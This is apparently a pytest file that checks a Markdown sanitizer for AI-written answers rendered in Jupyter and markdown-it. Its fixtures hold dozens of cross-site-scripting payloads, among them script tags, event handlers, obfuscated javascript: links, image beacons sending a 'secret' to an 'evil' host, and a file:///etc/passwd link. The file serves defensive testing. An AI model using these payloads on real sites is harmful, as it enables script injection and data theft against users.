"""Answers as Markdown: harmless in every renderer, and still what the model wrote."""

from __future__ import annotations

import re
import time
from collections.abc import Callable
from html.parser import HTMLParser

import nbformat
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from nbconvert import HTMLExporter
from nbconvert.filters.markdown_mistune import markdown2html_mistune

from nbcodex.rendering.markdown import escape_inline, sanitize_markdown

Render = Callable[[str], str]

ELEMENTS = set(
    re.findall(
        r"\w+",
        "p br hr h1 h2 h3 h4 h5 h6 ul ol li pre code div span a em strong del table thead tbody tr "
        "th td blockquote dl dt dd input b i ins kbd mark q s samp small sub summary details sup u "
        "var",
    )
)
ATTRIBUTES = {
    "a": {"href", "title", "class"},
    **{tag: {"class"} for tag in ("code", "pre", "div", "span", "li", "ul")},
    **{tag: {"style"} for tag in ("td", "th")},
    **{f"h{level}": {"id"} for level in range(1, 7)},
    "ol": {"start"},
    "input": {"type", "class", "checked", "disabled"},
}
SAFE_URL = re.compile(r"(?i)(?:https?://|mailto:|[?#]|(?![\\/]{2})[^:/?#]*(?:[/?#]|$))")


class Judge(HTMLParser):
    """Collects everything that could run or fetch something, the visible text, and the code."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.bad: list[str] = []
        self.seen: list[str] = []
        self.codes: list[str] = []
        self.within: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in ELEMENTS:
            self.bad.append(tag)
        self.bad += [f"{tag} {name}={value}" for name, value in attrs if unsafe(tag, name, value)]
        if tag in ("code", "pre"):
            if not self.within:
                self.codes.append("")
            self.within.append(tag)

    def handle_endtag(self, tag: str) -> None:
        if self.within and tag == self.within[-1]:
            self.within.pop()

    def handle_data(self, data: str) -> None:
        self.seen.append(data.replace("¶", ""))
        if self.within:
            self.codes[-1] += data

    def handle_comment(self, data: str) -> None:
        self.bad.append(f"comment {data}")

    handle_decl = handle_pi = unknown_decl = handle_comment


def unsafe(tag: str, name: str, value: str | None) -> bool:
    """Return whether an attribute is forbidden in a rendered answer."""
    value = value or ""
    if name not in ATTRIBUTES.get(tag, ()):
        return True
    match name:
        case "href":
            return not SAFE_URL.match(re.sub(r"[\x00-\x20]", "", value))
        case "style":
            return not re.fullmatch(r"text-align: ?\w+;?", value)
        case _:
            return name == "class" and "mermaid" in value.lower().split()


def judge(html: str) -> Judge:
    """Parse a rendered answer."""
    found = Judge()
    found.feed(html)
    found.close()
    return found


def markdown_it(text: str) -> str:
    """Render as VS Code and GitHub do, raw HTML let through."""
    library = pytest.importorskip("markdown_it")
    parser = library.MarkdownIt("commonmark", {"html": True})
    return str(parser.enable(["table", "strikethrough"]).render(text))


RENDERERS = {"nbconvert": markdown2html_mistune, "markdown-it": markdown_it}


@pytest.fixture(params=RENDERERS)
def render(request: pytest.FixtureRequest) -> Render:
    """A renderer that lets raw HTML through."""
    return RENDERERS[request.param]


SCRIPTS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=http://evil/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1)//<</script>",
    "<script\x00>alert(1)</script>",
    "<\x00script>alert(1)</script>",
    "<script\n>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src='http://evil/?q=secret'>",
    '<img """><script>alert(1)</script>">',
    "<IMG SRC=&#106;&#97;vascript:alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg/onload=alert(1)//",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<embed src=x>",
    "<link rel=stylesheet href=http://evil/x.css>",
    "<style>@import 'http://evil/x.css';</style>",
    "<base href='http://evil/'>",
    "<meta http-equiv=refresh content='0;url=http://evil'>",
    "<form action=http://evil><input name=q><button>go</button></form>",
    "<video src=http://evil autoplay><source src=http://evil></video>",
    "<audio src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<details><summary>x</summary>\n<img src=x onerror=alert(1)>\n</details>",
    "<b onmouseover=alert(1)>x</b>",
    "<b\nonmouseover=alert(1)>x</b>",
    "<br/onmouseover=alert(1)>",
    "<br\t/onmouseover=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<div style='background:url(http://evil)'>x</div>",
    "<textarea><script>alert(1)</script></textarea>",
    "<xmp><script>alert(1)</script></xmp>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!-- <script>alert(1)</script> -->",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?><script>alert(1)</script>",
    "<!DOCTYPE html><script>alert(1)</script>",
    "<custom-element onclick=alert(1)>",
    "</p><script>alert(1)</script>",
    "\u200b<script>alert(1)</script>",
    "<pre><script>alert(1)</script></pre>",
    "<pre>\n\n```html\n<script>alert(1)</script>\n```",
    "<pre><code><script>alert(1)</script></code></pre>",
    "<https://x/onclick=alert(1)>",
    "<details>\n<https://x/onclick=alert(1)>\n</details>",
    "<details>\n[a](<https://x onclick=alert(1)>)\n</details>",
    "<<https://x/onclick=alert(1)>>",
]
LINKS = [
    f"[a]({target})"
    for target in (
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        " javascript:alert(1)",
        "\njavascript:alert(1)",
        "\n\tjavascript:alert(1)",
        "java\tscript:alert(1)",
        "java\rscript:alert(1)",
        "java\x0bscript:alert(1)",
        "java\x01script:alert(1)",
        "\x01javascript:alert(1)",
        "\u00a0javascript:alert(1)",
        "\ufeffjavascript:alert(1)",
        "javascript&colon;alert(1)",
        "javascript&#58;alert(1)",
        "javascript&#x3A;alert(1)",
        "&#106;avascript:alert(1)",
        "&#x6A;avascript:alert(1)",
        "&#0000106avascript:alert(1)",
        "java&Tab;script:alert(1)",
        "java&NewLine;script:alert(1)",
        "javascript\\:alert(1)",
        "javascript%3Aalert(1)",
        "%6Aavascript:alert(1)",
        "<javascript:alert(1)>",
        "<java\tscript:alert(1)>",
        "< javascript:alert(1)>",
        "<javascript:alert('(')>",
        "vbscript:msgbox(1)",
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
        "DATA:text/html,<script>alert(1)</script>",
        "file:///etc/passwd",
        "command:workbench.action.openSettings",
        "vscode://x",
        "attachment:x.png",
        "blob:x",
        "//evil/x",
        "\\\\evil\\x",
        "/\\evil",
        "/&sol;evil",
        "<//evil x>",
        'javascript:alert(1) "title"',
        'x "<script>alert(1)</script>"',
        'x "a\\" onmouseover=\\"alert(1)"',
        'https://x/"onmouseover="alert(1)',
        "https://x/<script>alert(1)</script>",
    )
]
OTHERS = [
    "![a](http://evil/?q=secret)",
    "![a](<http://evil/x y>)",
    "!![a](http://evil/)",
    "\\![a](http://evil/)",
    "\\\\![a](http://evil/)",
    "![a [b](c) d](http://evil/)",
    "![a\nb](http://evil/)",
    "![](http://evil/)",
    "[![a](http://evil/x)](http://b)",
    "![a](plot.png)",
    "![a](data:image/svg+xml;base64,PHN2Zz4=)",
    "![a](attachment:missing.png)",
    "![a][r]\n\n[r]: http://evil/x",
    "![r]\n\n[r]: http://evil/x",
    "![r][]\n\n[r]: http://evil/x",
    "[a][r]\n\n[r]: javascript:alert(1)",
    "[r]\n\n[r]:\njavascript:alert(1)",
    "[r]\n\n[r]: <javascript:alert(1)>",
    "[a][r]\n\n> [r]: javascript:alert(1)",
    "[a][r\ns]\n\n[r\ns]: javascript:alert(1)",
    "- [r]: javascript:alert(1)\n\n[r]",
    "[r]: http://x\n'\n<script>alert(1)</script>'",
    "[^1]\n\n[^1]: javascript:alert(1)",
    "[^1]: <script>alert(1)</script>",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "<JaVaScRiPt:alert(1)>",
    "<foo+bar:x>",
    "|a|b|\n|-|-|\n|<script>alert(1)</script>|`<img src=x onerror=alert(1)>`|",
    "|`a|b`<img src=x onerror=alert(1)>|\n|-|-|\n|x|y|",
    "a\n<script>alert(1)</script>\n===",
    "Term\n: <script>alert(1)</script>",
    "Term\n: ~~~\n  <script>\n\n<script>alert(1)</script>",
    "# <script>alert(1)</script>",
    "- [ ] <script>alert(1)</script>",
    "`unclosed <script>alert(1)</script>",
    "``a` <script>alert(1)</script>",
    "\\`<script>alert(1)</script>\\`",
    "`a\n\n<script>alert(1)</script>`",
    "- `a\n- <script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>",
    "```\na\n~~~\n<script>alert(1)</script>\n```",
    "~~~\na\n```\n<script>alert(1)</script>\n~~~",
    "````\n```\n<script>alert(1)</script>\n````",
    "```\n<script>alert(1)</script>\n    ```\n<script>alert(1)</script>",
    "    ```\n<script>alert(1)</script>\n    ```",
    "- ```\n  <script>\n<script>alert(1)</script>\n  ```",
    "- a\n\n  ```\n  x\n<script>alert(1)</script>\n  ```",
    "> ```\n> <script>\n<script>alert(1)</script>\n> ```",
    "> - ```\n>   <script>alert(1)</script>\n\n```\n<script>alert(1)</script>",
    "1. ~~~ `x`\n   <script>alert(1)</script>\n   ~~~",
    "``` a`b\n<script>alert(1)</script>\n```",
    "para\n    <script>alert(1)</script>",
    "- a\n\n      <script>alert(1)</script>",
    "\t<script>alert(1)</script>",
    "a\r```\r<script>alert(1)</script>\r```",
    "```\u2028<script>alert(1)</script>\u2028```\n<script>alert(1)</script>",
    "`$$`\n\n```html\n$$\n<script>alert(1)</script>\n```",
    "$$ a\n\n```html\n$$\n<script>alert(1)</script>\n```",
    "\\\\[ a\n\n```html\n\\\\]\n<script>alert(1)</script>\n```",
    "\\begin{a}\n\n```html\n\\end{a}\n<script>alert(1)</script>\n```",
    "$<script>alert(1)</script>$",
    "$$\n<script>alert(1)</script>\n$$",
    "$ x $$ <script>alert(1)</script> $",
    "\\(<img src=x onerror=alert(1)>\\)",
    "\\begin{x}<script>alert(1)</script>\\end{x}",
    "```mermaid\n<img src=x onerror=alert(1)>\n```",
    "~~~ mermaid\ngraph TD\n~~~",
    "```mermaid-x\n<script>alert(1)</script>\n```",
    "```&#109;ermaid\ngraph TD\n```",
    '```x" onmouseover="alert(1)\ncode\n```',
    "```<script>alert(1)</script>\ncode\n```",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;alert(1)",
    "*a<script>*alert(1)</script>",
]
ATTACKS = [*SCRIPTS, *LINKS, *OTHERS]
FRAMES = ["{}", "text {} text", "- {}", "> {}", "<details>\n{}\n</details>", "```\n\n{}", "$x$ {}"]


@pytest.mark.slow
@pytest.mark.parametrize("attack", ATTACKS, ids=range(len(ATTACKS)))
def test_no_attack_survives_sanitizing(render: Render, attack: str) -> None:
    """No answer's rendering runs or loads anything."""
    for frame in FRAMES:
        once = sanitize_markdown(frame.format(attack))
        for text in (once, sanitize_markdown(once)):
            assert judge(render(text)).bad == [], text


@pytest.mark.parametrize(
    "attack",
    ["<script>alert(1)</script>", "<svg onload=x>", "![a](http://evil/)", "<b onx=1>x</b>"],
)
def test_the_check_finds_unsanitized_attacks(render: Render, attack: str) -> None:
    """The check that these tests use can fail."""
    assert judge(render(attack)).bad


GLUE = re.split(
    r"\|",
    "\n|\n\n|    |\t|> |- |1. |# |```|````|~~~|```html|```mermaid|`|``|$|$$|\\(|\\)|\\\\[|"
    "\\\\]|\\begin{a}|\\end{a}|===|: |[|]|(|)|](|]:|![|!|<|>|<details>|<b>|</b>|<p>|<pre>|"
    "</pre>|<code>|</code>|\\|\"|'|@@0@@|text|https://e/|www.e.com|mailto:|\r|\u2028",
)
PIECES = st.sampled_from([*ATTACKS, *GLUE, *GLUE, "|", "|-|-|", "\x00", "\ud800"])
DOCUMENTS = st.lists(PIECES, max_size=14).map("".join)


@pytest.mark.slow
@settings(max_examples=400, deadline=None)
@given(DOCUMENTS)
def test_no_combination_of_attacks_survives(document: str) -> None:
    """Combined attacks, where renderers disagree on what is code, are harmless, too."""
    once = sanitize_markdown(document)
    for text in (once, sanitize_markdown(once)):
        for renderer in RENDERERS.values():
            assert judge(renderer(text)).bad == [], text


@pytest.mark.slow
@settings(max_examples=300, deadline=None)
@given(st.one_of(DOCUMENTS, st.text(st.characters(exclude_categories=()))))
def test_any_string_can_be_stored(document: str) -> None:
    """No string raises, and the result can be encoded and has no control characters."""
    for text in (
        sanitize_markdown(document),
        sanitize_markdown(document, remote_images=True),
        escape_inline(document),
    ):
        text.encode()
        assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u2028\u2029]", text)


JUPYTERLAB = [  # puts mathematics into finished HTML, and an info into an attribute, both as is
    '[a](https://x/$"onmouseover="alert(1)$)',
    '[a](x "$\\" onmouseover=\\"alert(1)$")',
    '[a](@@0@@) $"onmouseover="alert(1)$',
    '[a](@\\@0@@) $"onmouseover="alert(1)$',
    'https://x/$"onmouseover="alert(1)$',
    'www.x.com/\\\\("onmouseover="alert(1)\\\\)',
    '<https://x/@@0@@> $"onmouseover=alert(1)$',
    '[a]\n\n[a]: x$"onmouseover="alert(1)$',
    '  ```x$"onmouseover="alert(1)$\ncode\n  ```',
    '~~~x" onmouseover="alert(1)\ncode\n~~~',
]


@pytest.mark.parametrize("attack", JUPYTERLAB)
def test_formulas_stay_out_of_attributes(attack: str) -> None:
    """JupyterLab finds neither formulas nor quotes that it would put into an attribute."""
    text = sanitize_markdown(attack)
    kept = re.findall(r"\]\([^)]*\)|\]: *\S+|(?:https?://|www\.)\S*|(?:```|~~~).*", text)
    assert not [part for part in kept if re.search(r"\$|@@|\\\\", part)]


def test_an_exported_notebook_has_no_added_script() -> None:
    """HTMLExporter adds no script of an answer to its page."""
    notebook = nbformat.v4.new_notebook()
    output = nbformat.v4.new_output(
        "display_data", {"text/markdown": sanitize_markdown("\n\n".join(SCRIPTS + OTHERS))}
    )
    notebook.cells = [nbformat.v4.new_code_cell("x", outputs=[output])]
    page, _ = HTMLExporter().from_notebook_node(notebook)
    notebook.cells[0].outputs[0].data["text/markdown"] = "nothing"
    plain, _ = HTMLExporter().from_notebook_node(notebook)
    for sign in ("<script", "<img", "<svg", "<iframe", "<style", "<form", "<link", "<!--"):
        assert page.lower().count(sign) == plain.lower().count(sign)


PYTHON = "```python\nif a < b and c[0]: print('<b>', a&b)\nx: list[int] = fns[0](y)\n```"
CPP = "```cpp\n#include <vector>\nstd::vector<std::pair<int, T>> v; // a<b && c>d\n```"
HTML = '```html\n<!-- x -->\n<a href="javascript:go()" onclick=\'f("&lt;")\'>x</a>\n\n<p>é</p>\n```'
JSX = "```jsx\nconst A = () => <B c={`$${x}`} {...d}>{e && <F/>}</B>;\n```"
SHELL = '```bash\ncurl "https://x/$V" <in >out 2>&1 # <your-key> `date`\necho $$\n```'
NESTED = """Steps:

1. First, write

   ```html
   <p>
     hi</p>
   ```

   and **then**
   - a nested item with `List<T>`
     ```c++
     vector<int> v;
     ```
   - another
2. Second:
    ```python
    x = 1
    ```
    go on
"""
TABLE = "| a | `x<y>` |\n|:--|--:|\n| `p\\|<q>` | ***b*** |\n| 1 | [l](https://x.y/a_(b)?c=1&d=2) |"
ANSWERS = {
    "plain": "# Title\n\nSome *emphasis*, **strong**, ~~gone~~ & more.\n\n> quoted\n\n---\nEnd",
    "python": f"So:\n\n{PYTHON}\n\nDone.",
    "cpp": f"So:\n{CPP}\nDone.",
    "html": f"So:\n{HTML}\n\nDone.",
    "jsx": JSX,
    "shell": f"{SHELL}\nDone.",
    "tilde": "~~~\n```html\n<p>\n```\n~~~\n",
    "unclosed": "So:\n\n```html\n<p>one\n",
    "no info": "```\n<p>\n```",
    "nested": NESTED,
    "table": TABLE,
    "quote": "> look:\n> ```js\n> a<b>c\n> ```\n\nafter",
    "spans": "Use `List<int>`, `` `<b>` ``, `a && b<c`, `{x: <y>}`, `*<z>*` and `x`.",
    "indented": "So:\n\n    #include <x>\n    y\n\nend",
    "lists": "- a\n  - b\n    - c `<d>`\n\n  text\n\n1. x\n1. y\n",
    "titled": '```python title="a.py"\nx\n```',
    "links": '[a](https://x.y "t"), [b](#c), [d](../e.md), [f][g], <https://h.i/j>\n\n[g]: https://g',
    "markdown": "````markdown\n# x\n```html\n<p>\n```\n````\nend",
    "fill": '```diff\n- <a>\n+ <b>\n```\n\n```json\n{"a": ["<b>"]}\n```',
}


@pytest.mark.parametrize("answer", ANSWERS.values(), ids=ANSWERS)
def test_visible_text_and_code_are_unchanged(render: Render, answer: str) -> None:
    """The visible text and each piece of code are the same as without sanitizing."""
    before, after = judge(render(answer)), judge(render(sanitize_markdown(answer)))
    words = ["".join("".join(side.seen).split()) for side in (before, after)]
    assert words[0] == words[1]
    assert [code.strip() for code in before.codes] == [code.strip() for code in after.codes]


@pytest.mark.parametrize("answer", ["plain", "table", "lists", "python"])
def test_harmless_markdown_is_unchanged(answer: str) -> None:
    """Without anything dangerous, nothing changes."""
    text = ANSWERS[answer].replace("<y>", "").replace("<d>", "").replace("<q>", "")
    text = text.replace("<b>", "")
    assert sanitize_markdown(text) == text


PROSE = {
    "if a < b, or a<b, then": "if a < b, or a<b, then",
    "a List<int> is": "a List<int> is",
    "put <your-key> here": "put <your-key> here",
    "R&D, &lt; and x<-y <= z << 2": "R&D, < and x<-y <= z << 2",
    "x[0](y: z), d[k]: v, a![b]": "x[0](y: z), d[k]: v, a![b]",
    "use <b> to make bold": "use <b> to make bold",
    "H<sub>2</sub>O <kbd>x</kbd>": "H2O x",
    "a $5 List<int> and $6": "a $5 List<int> and $6",
    "![chart](https://x/y.png)": "chart",
    "[a](javascript:x) b": "[a](javascript:x) b",
}


@pytest.mark.parametrize(("text", "seen"), PROSE.items())
def test_prose_with_angle_brackets_is_shown(render: Render, text: str, seen: str) -> None:
    """Angle brackets in prose are shown, and defused constructs stay readable."""
    assert " ".join("".join(judge(render(sanitize_markdown(text))).seen).split()) == seen


@pytest.mark.parametrize(
    "maths", ["$a < b$", "$a<b$", "$$\nx<y & z\n$$", "\\\\(a<b\\\\)", "\\begin{a}x<y\\end{a}"]
)
def test_formulas_reach_mathjax(maths: str) -> None:
    """Since nbconvert escapes formulas itself, MathJax must not see entities of ours."""
    html = markdown2html_mistune(sanitize_markdown(f"So {maths} holds."))
    assert "&lt; b" in html or "&lt; y" in html
    assert "&amp;lt;" not in html


@pytest.mark.parametrize("start", ["   ```html\n   <p>\n   ```\n", "1. ```html\n   <p>\n   ```\n"])
def test_text_after_code_in_a_list_is_not_code(render: Render, start: str) -> None:
    """Text after a moved code block in a list is not taken for code."""
    found = judge(
        render(sanitize_markdown(f"1. a\n{start.replace('<p>', '<i x>')}    then\n    - b\n"))
    )
    assert [code.strip() for code in found.codes] == ["<i x>"]


def test_a_fence_is_longer_than_backticks_in_it() -> None:
    """Backticks within a line of code are outnumbered by those of the fence."""
    assert sanitize_markdown("~~~js\n<i x> ```` y\n~~~") == "`````js\n<i x> ```` y\n`````"


def test_javascript_line_ends_are_line_ends() -> None:
    """Line separators of JavaScript become line ends for all renderers."""
    assert sanitize_markdown("a\u2028b\u2029c\x85d\re\r\nf") == "a\nb\nc\nd\ne\nf"


def test_remote_images_keep_safe_addresses_only() -> None:
    """With `remote_images`, an image with a safe address stays, and no other."""
    good, bad = "![a](https://x/y.png)", "![a](javascript:x)"
    assert sanitize_markdown(good, remote_images=True) == good
    assert "<img" not in markdown_it(sanitize_markdown(bad, remote_images=True))


def test_sanitizing_twice_stays_harmless() -> None:
    """A block that became `<pre>` is kept when the text is sanitized again."""
    once = sanitize_markdown("```\n<i x>\n$$\n```")
    assert once.startswith("<pre><code>&#60;i x&#62;&#10;")
    assert sanitize_markdown(once) == once


HOSTILE = [
    "[", "`", "<", "![", "*", "](", "]:", "$", "\\(", "](<", "`a``", "> ", "- ", "\n- ", "<b>",
    "](a", "!", "\\begin{a}", "](  ", "```", "``` ", "[a](", "<a@", "https://", "](a(", "\n```\n",
    "~~~a\n", "    x\n\n", "$x", "<pre><code>", ']: "', "\n|",
]  # fmt: skip


@pytest.mark.slow
@pytest.mark.parametrize("piece", HOSTILE)
def test_time_grows_linearly_with_repetition(piece: str) -> None:
    """Time grows with the length and no faster, whatever is repeated."""
    times = []
    for size in (100_000, 1_000_000):
        start = time.process_time()
        sanitize_markdown(piece * (size // len(piece)))
        times.append(time.process_time() - start)
    assert times[1] < max(2.0, 30 * times[0])


@pytest.mark.parametrize(
    "name",
    ["gpt-5.6-sol", "a_b*c*", "<script>", "![x](http://e)", "`a`", "x\n# y", "[a](b)", "a|b"],
)
def test_escape_inline_shows_text_as_it_is(render: Render, name: str) -> None:
    """A model's name or a line of figures is shown as text."""
    found = judge(render(f"x {escape_inline(name)} y"))
    assert "".join(found.seen).strip() == f"x {' '.join(name.split())} y"
    assert found.bad == []


DOLLAR = "<span>&#36;</span>"


@pytest.mark.parametrize(
    "text",
    [
        "It costs $5 a day, or $30 a week.",
        "Between $1,000 and $2,000.50.",
        "US$5 and US$10; 5$ to 10$; 5$/day, 10$.",
        r"It costs \$5 a day, or \$30 a week.",
        "- $5 for one, $9 for two\n- $20 for five, $30 for ten",
        "**$5** now, then $10/month.",
        "Set $PATH and $HOME first.",
    ],
)
def test_prices_are_not_formulas(text: str) -> None:
    """No dollar sign is left that MathJax could pair with another one."""
    done = sanitize_markdown(text)
    assert "$" not in done
    assert done.replace(DOLLAR, "$") == text.replace(r"\$", "$")
    assert sanitize_markdown(done) == done
    html = markdown2html_mistune(done)
    assert "<span>$</span>" in html


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        (r"So \(x^2\) holds.", "So $x^2$ holds."),
        (r"So \( a_1 \) and \(b\).", "So $a_1$ and $b$."),
        ("So\n\\[\nx = 1\n\\]\nholds.", "So\n$$\nx = 1\n$$\nholds."),
        ("So $x$ and $$y$$ and $n$th, 2$\\times$3.", None),
        (r"So \\(x\\) and \\[y\\] hold.", None),
        (r"For \(p\) it costs $5.", f"For $p$ it costs {DOLLAR}5."),
        ("With $x = 5$ it costs $5 or $6.", f"With $x = 5$ it costs {DOLLAR}5 or {DOLLAR}6."),
        (r"\begin{align}x\end{align} for $5.", None),
        ("It costs $5.", None),
        (r"`\(x\)` and `$5 or $6` are code.", None),
        ("```\necho $A $B \\(\n```", None),
        (r"See \[this\](https://x.org/?a=$1&b=$2).", None),
    ],
)
def test_formulas_of_all_four_kinds_are_kept(text: str, expected: str | None) -> None:
    """Formulas have delimiters that survive Markdown; code, links and single prices stay."""
    assert sanitize_markdown(text).replace("%24", "$") == (expected or text)
